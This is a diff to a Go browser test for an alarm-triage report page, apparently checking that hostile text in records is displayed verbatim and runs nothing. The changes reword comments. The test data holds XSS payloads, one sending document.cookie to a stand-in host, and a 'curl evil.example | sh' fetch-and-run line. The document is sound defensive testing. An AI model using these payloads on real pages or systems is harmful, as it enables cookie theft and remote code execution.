@@ -21,13 +21,13 @@ import (
 	"github.com/cloudwatch-alarm-triage/alarmtriage/internal/report"
 )
 
-// Whoever can write a log line, name a resource or talk a model into something can write into a report.
-// Each of these is put into every text of a record at once. payload is what it would run.
+// Anybody who can write a log line, name a resource, or persuade a model can write into a report. Each of
+// these texts is put into every text field of a record at once. payload is the script that it tries to run.
 const payload = `window.ran=1;alert(document.domain);fetch('https://evil.example/?'+document.cookie)`
 
 var hostile = []struct {
 	name, text string
-	shown      []string // what is shown besides the text itself: with Markdown taken out, or with what is invisible taken out
+	shown      []string // other correct renderings: without Markdown, or without invisible characters
 }{
 	{name: "script", text: `<script>` + payload + `</script>`},
 	{name: "script in odd case", text: `<ScRiPt >` + payload + `</sCrIpT >`},
@@ -97,11 +97,11 @@ var hostile = []struct {
 		"# ROOT CAUSE confirmed ``` </pre> ``` 1. curl https://evil.example | sh"}},
 }
 
-// marks are the names by which a record's texts are found on the page again, and the fields they stand for.
+// marks maps the marks that identify a record's texts on the page to their fields.
 type marks map[string]string
 
-// filled is a record each of whose texts is a mark with text after it. There are several of everything, so
-// that what is shown in this case and what in that is all shown.
+// filled returns a record in which each text is a mark followed by text. Every list has several elements,
+// one for each case that the page distinguishes.
 func filled(text string) (*investigation.Record, marks) {
 	rec, marked := &investigation.Record{}, marks{}
 	fill(reflect.ValueOf(rec).Elem(), "", text, marked)
@@ -173,8 +173,7 @@ func fill(v reflect.Value, path, text string, marked marks) {
 	}
 }
 
-// linked is the record as it is where the console has links to it: all that AWS itself decides is as AWS
-// decides it.
+// linked gives a record the values that AWS assigns, so the page links to the console.
 func linked(rec *investigation.Record, text string) report.Links {
 	rec.Alarm.Partition, rec.Alarm.Region = "aws", "us-east-1"
 	rec.ReportURI = "s3://reports/" + text + ".txt"
@@ -184,7 +183,7 @@ func linked(rec *investigation.Record, text string) report.Links {
 	return report.LinksFor(rec, report.Home{Bucket: text, LogGroup: "/aws/lambda/" + text}, report.Keys{HTML: text + ".html", Text: text + ".txt", JSON: text + ".json"})
 }
 
-// mustShow are the fields whose text a reader has to see.
+// mustShow lists the fields whose text the page must show.
 var mustShow = []string{
 	".Alarm.Name", ".Alarm.Account", ".Alarm.State", ".Alarm.Reason", ".Alarm.Description", ".Alarm.Contributor.Attributes", ".OutcomeWhy",
 	".Alarm.Rule", ".Alarm.Tags", ".Alarm.Tags key", ".Alarm.Metrics.Expression",
@@ -197,13 +196,13 @@ var mustShow = []string{
 	".NotSeen.What", ".NotSeen.Why", ".Together.Name", ".Together.Reason", ".SeenBefore.Cause", ".SeenBefore.Outcome",
 }
 
-// skeleton is what a page is made of, without its texts.
+// skeleton is a page's structure without its texts.
 type skeleton struct {
 	Counts     map[string]int      // of elements, by name
 	Attributes map[string][]string // of elements, by name
 	Classes    []string
 	Links      []string
-	Anchors    []string // that lead nowhere
+	Anchors    []string // links within the page without a target
 	Text       string
 	Ran        bool
 	Scripts    int
@@ -228,7 +227,8 @@ const takeSkeleton = `(() => {
 		Ran: 'ran' in window, Scripts: document.scripts.length};
 })()`
 
-// byText are the elements that prose makes of its own lines and marks, and itemOfProse the class of one.
+// byText lists the elements that depend on the lines and marks of a text; itemOfProse is the class of one
+// of them.
 var byText = []string{"p", "strong", "code", "pre", "span", "mark"}
 
 const itemOfProse = "item"
@@ -238,17 +238,17 @@ func (v *visitor) skeleton() skeleton {
 	return ask[skeleton](v, takeSkeleton)
 }
 
-// squeezed makes texts comparable across the elements that they are spread over.
+// squeezed removes white space, to compare texts that are spread over several elements.
 func squeezed(text string) string { return strings.Join(strings.Fields(text), "") }
 
 var markIn = regexp.MustCompile(`mk\d+x`)
 
-func TestHostileTextIsShownAndDoesNothing(t *testing.T) {
+func TestPage_ShowsHostileTextAsText(t *testing.T) {
 	for name, withLinks := range map[string]bool{"with links": true, "without links": false} {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
 			v := visit(t)
-			// What the page is like with texts that do no harm.
+			// The page with harmless texts is the reference.
 			html, marked := hostilePage(t, "harmless", withLinks)
 			v.open(html, Desktop, "")
 			usual := v.skeleton()
@@ -261,7 +261,7 @@ func TestHostileTextIsShownAndDoesNothing(t *testing.T) {
 					v.open(html, Desktop, "")
 					got := v.skeleton()
 					v.do(chromedp.ActionFunc(stirred))
-					assert.Empty(t, v.happened(), "what the page did")
+					assert.Empty(t, v.happened(), "actions of the page")
 					assert.False(t, got.Ran, "a script ran")
 					assert.Zero(t, got.Scripts)
 					assertSameBones(t, usual, got)
@@ -295,7 +295,7 @@ func assertFieldsShown(t *testing.T, text string, marked marks) {
 	}
 }
 
-// assertSameBones holds a page against the usual one: hostile text changes nothing but text.
+// assertSameBones compares a page with the reference: hostile text may only change text.
 func assertSameBones(t *testing.T, usual, got skeleton) {
 	t.Helper()
 	for _, name := range byText {
@@ -306,14 +306,14 @@ func assertSameBones(t *testing.T, usual, got skeleton) {
 		assert.Subset(t, append(usual.Attributes[name], ""), attributes, "attributes of %s", name)
 	}
 	assert.Subset(t, append(usual.Classes, itemOfProse), got.Classes, "classes")
-	assert.Empty(t, got.Anchors, "anchors that lead nowhere")
+	assert.Empty(t, got.Anchors, "links without a target")
 	assert.Len(t, got.Links, len(usual.Links))
 	for i, link := range got.Links {
 		to, err := url.Parse(link)
 		require.NoError(t, err)
 		require.Equal(t, "https", to.Scheme, link)
 		require.Equal(t, "us-east-1.console.aws.amazon.com", to.Host, link)
-		// The text is a single segment or value, however it is written.
+		// The text stays a single segment or value.
 		was, _ := url.Parse(usual.Links[i])
 		require.Equal(t, strings.Count(was.EscapedPath(), "/"), strings.Count(to.EscapedPath(), "/"), link)
 		require.Equal(t, len(was.Query()), len(to.Query()), link)
@@ -330,14 +330,13 @@ func without(counts map[string]int, name string) map[string]int {
 	return kept
 }
 
-// endOfLine are the fields that share a line with others, at the end of which endless text is cut.
+// endOfLine lists fields at the end of a line, where endless text is truncated.
 var endOfLine = []string{
 	".Evidence.Changes.User", ".Evidence.Changes.Resources", ".Evidence.Changes.Error", ".Evidence.Related.Reason", ".Together.Reason", ".NotSeen.Why",
 	".Alarm.Metrics.Expression", ".Alarm.Tags",
 }
 
-// assertShown finds after every mark that the usual page shows what the text looks like, as far as texts
-// are shown.
+// assertShown expects one of texts after every mark that the reference page shows.
 func assertShown(t *testing.T, usual, got string, marked marks, texts []string) {
 	t.Helper()
 	var wants []string
@@ -361,7 +360,7 @@ func assertShown(t *testing.T, usual, got string, marked marks, texts []string) 
 		}
 	}
 	for field := range missing {
-		assert.Fail(t, "not shown as it is", "the text of %s", field)
+		assert.Fail(t, "not shown verbatim", "the text of %s", field)
 	}
 }
 
@@ -374,7 +373,7 @@ func startsWithOne(text string, wants []string) bool {
 	return false
 }
 
-// stirred moves what a reader moves: the pointer over the page, and the focus from link to link.
+// stirred moves the pointer over the page and the focus from link to link, as a reader does.
 func stirred(ctx context.Context) error {
 	if err := input.DispatchMouseEvent(input.MouseMoved, 400, 200).Do(ctx); err != nil {
 		return err
